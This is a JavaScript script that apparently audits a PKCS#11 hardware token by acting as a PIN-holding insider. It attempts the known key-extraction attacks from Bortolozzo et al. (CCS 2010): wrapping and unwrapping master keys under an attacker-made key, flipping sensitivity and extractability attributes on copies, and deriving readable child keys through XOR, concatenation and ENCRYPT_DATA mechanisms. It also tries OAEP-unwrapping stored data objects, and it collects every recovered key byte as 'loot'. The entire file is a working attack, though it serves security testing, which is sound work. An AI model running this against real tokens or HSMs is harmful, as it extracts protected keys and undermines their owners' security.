/**
 * Somebody who holds the user PIN and speaks PKCS#11 to the token himself (Bortolozzo, Centenaro, Focardi, Steel: CCS 2010).
 * Prints one answer an attack, and every 16 bytes that he could read anywhere. usage: MODULE LABEL, PIN by standard input
 */
import p from 'pkcs11js';
import { openRawSession } from '../raw-session.mjs';

const { module, slot, session } = openRawSession();
const answers = {};
/** Whatever he got hold of in clear. */
const loot = new Set();
function keep(value) {
  for (let at = 0; at + 16 <= value.length; at++) loot.add(value.subarray(at, at + 16).toString('hex'));
}
function attempt(name, act) {
  try {
    const value = act();
    answers[name] = Buffer.isBuffer(value) && value.length > 8 ? `OK ${value.toString('hex')}` : 'OK';
    return value;
  } catch (error) {
    answers[name] = /CKR_[A-Z0-9_]+/.exec(error.message)?.[0] ?? error.message;
    return null;
  }
}
function findAll(template) {
  module.C_FindObjectsInit(session, template);
  try {
    return module.C_FindObjects(session, 1_000);
  } finally {
    module.C_FindObjectsFinal(session);
  }
}
/** An attack that fails half-way leaves its operation active in the session. */
const fresh = () => module.C_OpenSession(slot, p.CKF_SERIAL_SESSION | p.CKF_RW_SESSION);
const keys = findAll([{ type: p.CKA_CLASS, value: p.CKO_SECRET_KEY }]);
const read = (key, type) => module.C_GetAttributeValue(session, key, [{ type }])[0].value;
const label = (key) => read(key, p.CKA_LABEL).toString();
const labels = keys.map(label);
const byLabel = (name) => keys[labels.indexOf(name)];
const weak = (keyType, length, ...uses) => [
  { type: p.CKA_CLASS, value: p.CKO_SECRET_KEY },
  { type: p.CKA_KEY_TYPE, value: keyType },
  ...(length === null ? [] : [{ type: p.CKA_VALUE_LEN, value: length }]),
  { type: p.CKA_TOKEN, value: false },
  { type: p.CKA_SENSITIVE, value: false },
  { type: p.CKA_EXTRACTABLE, value: true },
  ...uses.map((use) => ({ type: p[use], value: true })),
];
const own = attempt('make a key with WRAP and DECRYPT', () =>
  module.C_GenerateKey(
    session,
    { mechanism: p.CKM_AES_KEY_GEN },
    weak(p.CKK_AES, 16, 'CKA_WRAP', 'CKA_UNWRAP', 'CKA_DECRYPT', 'CKA_ENCRYPT'),
  ),
);
const cbc = { mechanism: p.CKM_AES_CBC, parameter: Buffer.alloc(16) };
const wraps = {
  CBC: cbc,
  KEY_WRAP: { mechanism: p.CKM_AES_KEY_WRAP },
  KEY_WRAP_PAD: { mechanism: p.CKM_AES_KEY_WRAP_PAD },
};
/** His own key stands in where a token has no masters (the SAM token). */
const master = byLabel('TMK#1') ?? own;
const copyOf = (key, ...changes) =>
  module.C_CopyObject(session, key, [{ type: p.CKA_TOKEN, value: false }, ...changes]);

// Wrapped by his own key and unwrapped as one that he may read; wrapping or unwrapping with the masters themselves.
for (const key of keys) {
  const name = label(key);
  attempt(`${name} read`, () => read(key, p.CKA_VALUE));
  for (const [how, mechanism] of Object.entries(wraps))
    attempt(`${name} wrap by own ${how}`, () => {
      const wrapped = module.C_WrapKey(session, mechanism, own, key, Buffer.alloc(64));
      keep(read(module.C_UnwrapKey(session, mechanism, own, wrapped, weak(p.CKK_AES, null)), p.CKA_VALUE));
    });
  attempt(`${name} wraps TMK`, () => module.C_WrapKey(session, cbc, key, master, Buffer.alloc(64)));
  attempt(`${name} unwraps weak`, () => module.C_UnwrapKey(session, cbc, key, Buffer.alloc(16), weak(p.CKK_AES, null)));
}

// Attributes of a master, changed in place or in a copy.
const change = [
  ['CKA_EXTRACTABLE', true],
  ['CKA_SENSITIVE', false],
  ['CKA_KEY_TYPE', p.CKK_DES2],
  ['CKA_NEVER_EXTRACTABLE', true],
  ['CKA_WRAP', true],
  ['CKA_DECRYPT', true],
  ['CKA_UNWRAP', true],
  ['CKA_ENCRYPT', true],
];
const anyMechanism = Buffer.alloc(16);
anyMechanism.writeUInt32LE(p.CKM_AES_ECB);
anyMechanism.writeUInt32LE(p.CKM_AES_KEY_WRAP, 8);
change.push(['CKA_ALLOWED_MECHANISMS', anyMechanism]);
const typeOf = (name) => p[name] ?? { CKA_ALLOWED_MECHANISMS: 0x40000600 }[name];
for (const [name, value] of change) {
  attempt(`copy ${name}`, () => copyOf(master, { type: typeOf(name), value }));
  // On a session copy, so that an attack that works leaves the token as it was.
  const copy = copyOf(master);
  attempt(`set ${name}`, () => module.C_SetAttributeValue(session, copy, [{ type: typeOf(name), value }]));
}
for (const name of ['CKA_EXTRACTABLE', 'CKA_SENSITIVE'])
  attempt(`set ${name} in the token`, () =>
    module.C_SetAttributeValue(session, master, [{ type: p[name], value: name === 'CKA_EXTRACTABLE' }]),
  );
// All uses given to a copy of each master: what does it do then?
const given = ['CKA_ENCRYPT', 'CKA_DECRYPT', 'CKA_WRAP', 'CKA_UNWRAP', 'CKA_SIGN', 'CKA_DERIVE'];
for (const name of labels) {
  const copy = copyOf(byLabel(name));
  module.C_SetAttributeValue(
    session,
    copy,
    given.map((use) => ({ type: p[use], value: true })),
  );
  attempt(`${name} decrypts when given DECRYPT`, () =>
    module.C_DecryptInit(fresh(), { mechanism: p.CKM_AES_ECB }, copy),
  );
  attempt(`${name} wraps when given WRAP`, () =>
    module.C_WrapKey(session, wraps.KEY_WRAP, copy, own, Buffer.alloc(64)),
  );
  attempt(`${name} unwraps when given UNWRAP`, () =>
    module.C_UnwrapKey(session, wraps.KEY_WRAP, copy, Buffer.alloc(24), weak(p.CKK_AES, null)),
  );
  attempt(`${name} signs when given SIGN`, () => module.C_SignInit(fresh(), { mechanism: p.CKM_AES_CMAC }, copy));
}
attempt('decrypt', () => module.C_DecryptInit(fresh(), { mechanism: p.CKM_AES_ECB }, master));
attempt('encrypt', () => module.C_EncryptInit(fresh(), { mechanism: p.CKM_AES_ECB }, master));

// Derivations into keys that he may read.
for (const name of [
  'CKM_XOR_BASE_AND_DATA',
  'CKM_CONCATENATE_BASE_AND_DATA',
  'CKM_CONCATENATE_DATA_AND_BASE',
  'CKM_CONCATENATE_BASE_AND_KEY',
  'CKM_EXTRACT_KEY_FROM_KEY',
])
  attempt(name, () =>
    module.C_DeriveKey(
      session,
      { mechanism: p[name], parameter: Buffer.alloc(16) },
      master,
      weak(p.CKK_GENERIC_SECRET, 16),
    ),
  );
const byCbc = (data) => ({
  mechanism: p.CKM_AES_CBC_ENCRYPT_DATA,
  parameter: { type: p.CK_PARAMS_AES_CBC, iv: Buffer.alloc(16), data },
});
const byEcb = () => ({ mechanism: p.CKM_AES_ECB_ENCRYPT_DATA, parameter: Buffer.alloc(16, 1) });
const byDes = (mechanism) => ({
  mechanism,
  parameter: { type: p.CK_PARAMS_DES_CBC_ENCRYPT_DATA, iv: Buffer.alloc(8), data: Buffer.alloc(16, 1) },
});
const child = (mechanism, base, keyType, length) =>
  read(module.C_DeriveKey(session, mechanism, base, weak(keyType, length)), p.CKA_VALUE);
const ones = Buffer.alloc(16, 1);
attempt('derive a readable child', () => child(byCbc(ones), master, p.CKK_AES, 16));
attempt('derive a DES child', () => child(byCbc(ones), master, p.CKK_DES, null));
attempt('derive a one-byte child', () => child(byCbc(ones), master, p.CKK_GENERIC_SECRET, 1));
for (const name of labels) {
  const base = copyOf(byLabel(name));
  module.C_SetAttributeValue(session, base, [{ type: p.CKA_DERIVE, value: true }]);
  attempt(`${name} by CKM_AES_ECB_ENCRYPT_DATA`, () => keep(child(byEcb(), base, p.CKK_AES, 16)));
  attempt(`${name} by CKM_DES3_ECB_ENCRYPT_DATA`, () =>
    keep(child({ mechanism: p.CKM_DES3_ECB_ENCRYPT_DATA, parameter: ones }, base, p.CKK_AES, 16)),
  );
  attempt(`${name} by CKM_DES3_CBC_ENCRYPT_DATA`, () =>
    keep(child(byDes(p.CKM_DES3_CBC_ENCRYPT_DATA), base, p.CKK_AES, 16)),
  );
}

// All that lies in the token: read as it is, and under every key that will do anything with it.
const objects = findAll([{ type: p.CKA_CLASS, value: p.CKO_DATA }]).map((handle) => ({
  application: read(handle, p.CKA_APPLICATION).toString(),
  value: read(handle, p.CKA_VALUE),
}));
const texts = objects.flatMap(({ value }) => {
  const hex = [...value.toString('latin1').matchAll(/"wrapped":"([0-9a-f]+)"/gi)].map(([, found]) => found);
  return [value, ...hex.map((found) => Buffer.from(found, 'hex'))];
});
const privateKeys = findAll([{ type: p.CKA_CLASS, value: p.CKO_PRIVATE_KEY }]);
const oaep = {
  mechanism: p.CKM_RSA_PKCS_OAEP,
  parameter: { type: p.CK_PARAMS_RSA_OAEP, hashAlg: p.CKM_SHA_1, mgf: p.CKG_MGF1_SHA1, source: 1 },
};
let tried = 0;
for (const text of texts) {
  keep(text);
  for (const key of privateKeys) {
    tried++;
    try {
      keep(read(module.C_UnwrapKey(session, oaep, key, text, weak(p.CKK_AES, null)), p.CKA_VALUE));
    } catch {}
  }
  if (text.length !== 16) continue;
  for (const base of keys) {
    tried++;
    try {
      keep(child(byCbc(text), base, p.CKK_AES, 16));
    } catch {}
  }
}
const applications = [...new Set(objects.map(({ application }) => application))].sort();
module.C_Finalize();
process.stdout.write(
  JSON.stringify({ labels, answers, loot: [...loot], objects: objects.length, applications, tried }),
);
